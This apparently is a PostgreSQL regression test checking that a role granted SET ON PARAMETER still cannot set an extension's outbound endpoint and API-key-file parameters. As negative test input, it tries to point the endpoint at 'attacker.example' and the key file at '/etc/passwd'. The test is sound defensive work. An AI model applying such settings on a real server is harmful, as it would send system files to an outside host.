-- Where the key comes from and where data goes are a superuser's to say: a role granted SET on
-- cde.endpoint and cde.api_key_file (GRANT SET ON PARAMETER) still cannot set them, for its
-- session or its database; the superuser workers would read any file the server can and send it
-- to any endpoint.
\set ON_ERROR_ROLLBACK on
BEGIN;
CREATE ROLE regress_param_owner;
GRANT SET ON PARAMETER cde.endpoint, cde.api_key_file TO regress_param_owner;
SET ROLE regress_param_owner;
SET cde.endpoint = 'http://attacker.example/ingest';
SET cde.api_key_file = '/etc/passwd';
ALTER ROLE regress_param_owner SET cde.endpoint = 'http://attacker.example/ingest';
RESET ROLE;
-- A superuser may.
SET cde.endpoint = 'http://127.0.0.1:1/ingest';
SHOW cde.endpoint;
ROLLBACK;
